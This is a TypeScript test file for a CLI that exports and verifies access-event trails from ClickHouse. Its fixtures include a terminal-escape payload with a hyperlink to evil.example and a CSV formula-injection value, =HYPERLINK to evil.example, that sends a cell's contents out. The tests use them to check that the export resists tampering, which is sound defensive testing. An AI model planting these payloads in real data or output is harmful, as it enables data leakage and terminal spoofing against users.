// The CLI on a real ClickHouse 18.16: a trail whose user agent carries
// terminal escape codes and whose person's name is a spreadsheet formula.
// On a terminal the export is refused without --out; with --out the file
// keeps every byte, `verify` accepts it, and refuses it once it is respelled.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accessEventRow, TABLES } from '#clickhouse';
import { runProgram } from '#service';
import { createLogger } from '#log';
import { testConfig } from '#testkit';
import { buildQueryApp, type QueryApp } from '../src/app.ts';
import { buildCli } from '../src/cli.ts';
import { loadQueryConfig } from '../src/config.ts';
import { EXPORT_FORMATS, type ExportFormat } from '../src/export-format.ts';
import { enriched, seededDatabase, t } from './fixtures.ts';

const ESCAPES = 'curl/8 \x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2K\r\u009b2J\x1b]0;pwned\x07';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")';
const NOW = new Date('2026-02-01T00:00:00Z');
const TRAIL = ['trail', '--person', 'okta:00u_dana', '--from', '2026-01-01', '--to', '2026-02-01T00:00:00Z'];

let db: Awaited<ReturnType<typeof seededDatabase>>;
let app: QueryApp;
let dir: string;

beforeAll(async () => {
  db = await seededDatabase();
  const dana = {
    person_id: 'okta:00u_dana', email: 'dana@acme.test', display_name: FORMULA, department: 'Engineering', title: null, manager_person_id: null,
    lifecycle_state: 'active', version_valid_from: t('2026-01-01T00:00:00Z'), version_source: 'okta/users',
  };
  await db.ch.insertRows(TABLES.accessEvents, [
    enriched({ id: 'e90', at: '2026-01-25T10:00:00Z', action: 'api_key.created', person: dana, userAgent: ESCAPES, targets: [['api_key', 'key_dana']] }),
    enriched({ id: 'e91', at: '2026-01-26T10:00:00Z', action: 'login.succeeded', cls: [3002, 1], person: dana }),
  ].map(accessEventRow));
  const config = loadQueryConfig({ ...process.env, TETHER_CLICKHOUSE_URL: testConfig().TETHER_CLICKHOUSE_URL, TETHER_CLICKHOUSE_DATABASE: db.database });
  app = buildQueryApp(config, { log: createLogger({ service: 'test', level: 'warn' }), clickhouse: db.ch, now: () => NOW });
  dir = mkdtempSync(path.join(tmpdir(), 'tether-query-cli-'));
});

afterAll(async () => {
  await app?.close();
  await db?.drop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});


/** Runs the CLI with stdout and stderr that say they are a terminal. */
async function onTerminal(args: string[]): Promise<{ stdout: string; stderr: string; error: Error | null; code: number | null }> {
  const stdout = Object.assign(new PassThrough(), { isTTY: true });
  const stderr = Object.assign(new PassThrough(), { isTTY: true });
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  stdout.on('data', (c: Buffer) => out.push(c));
  stderr.on('data', (c: Buffer) => err.push(c));
  let error: Error | null = null;
  let code: number | null = null;
  try {
    code = await runProgram(buildCli(() => app, { stdout, stderr }, async () => undefined), args);
  } catch (e) {
    error = e as Error;
  }
  return { stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8'), error, code };
}

/** The export as the app writes it, for comparison with the file. */
async function exportText(format: ExportFormat): Promise<string> {
  const chunks: string[] = [];
  await app.trail({ subject: 'person', value: 'okta:00u_dana', fromMs: t('2026-01-01T00:00:00Z'), toMs: NOW.getTime() }, format, (c) => void chunks.push(c));
  return chunks.join('');
}

describe('trail on a terminal', () => {
  it('without --out is refused, and nothing reaches the terminal', async () => {
    const { stdout, error } = await onTerminal([...TRAIL, '--format', 'ndjson']);
    expect(error?.message).toMatch(/not written to a terminal/);
    expect(stdout).toBe('');
  });

  it.each(EXPORT_FORMATS)('%s with --out writes the exact export, which verifies; a respelled copy does not', async (format) => {
    const file = path.join(dir, `dana.${format}`);
    const written = await onTerminal([...TRAIL, '--format', format, '--out', file]);
    expect(written.error).toBeNull();
    expect(written.stdout).toBe('');
    const bytes = readFileSync(file);
    expect(bytes.toString('utf8')).toBe(await exportText(format));
    // As the data has it: CSV keeps ESC itself; JSON writes C0 as \u001b but C1 (here CSI, U+009B) as the character.
    expect(bytes.includes(Buffer.from(format === 'csv' ? '\x1b]8;;https://evil.example\x07' : '\u009b2J'))).toBe(true);

    const ok = await onTerminal(['verify', file]);
    expect(ok.stdout).toMatch(/^OK: 2 rows, final digest [0-9a-f]{64}\n$/);
    expect(ok.code).toBe(0);

    // CSV: the formula's guarding apostrophe removed. JSON: a second person_id that first-wins readers take.
    const text = bytes.toString('utf8');
    const respelled = format === 'csv'
      ? text.replace(`"'=HYPERLINK`, '"=HYPERLINK')
      : text.replace('"person_id":"okta:00u_dana"', '"person_id":"okta:00u_mallory","person_id":"okta:00u_dana"');
    expect(respelled).not.toBe(text);
    const copy = path.join(dir, `respelled.${format}`);
    writeFileSync(copy, respelled);
    writeFileSync(`${copy}.manifest.json`, readFileSync(`${file}.manifest.json`));
    const refused = await onTerminal(['verify', copy]);
    expect(refused.stdout).toMatch(/^MODIFIED: row 1 holds the exported values but is not written as the exporter writes it/);
    expect(refused.code).toBe(1);
  });

  it('a manifest re-saved with sorted keys still verifies', async () => {
    const file = path.join(dir, 'sorted.csv');
    expect((await onTerminal([...TRAIL, '--out', file])).error).toBeNull();
    const sortKeys = (v: unknown): unknown =>
      Array.isArray(v) ? v.map(sortKeys) : v && typeof v === 'object' ? Object.fromEntries(Object.keys(v).sort().map((k) => [k, sortKeys((v as Record<string, unknown>)[k])])) : v;
    const manifestPath = `${file}.manifest.json`;
    writeFileSync(manifestPath, JSON.stringify(sortKeys(JSON.parse(readFileSync(manifestPath, 'utf8'))), null, 4));
    expect((await onTerminal(['verify', file])).stdout).toMatch(/^OK: 2 rows/);
  });
});
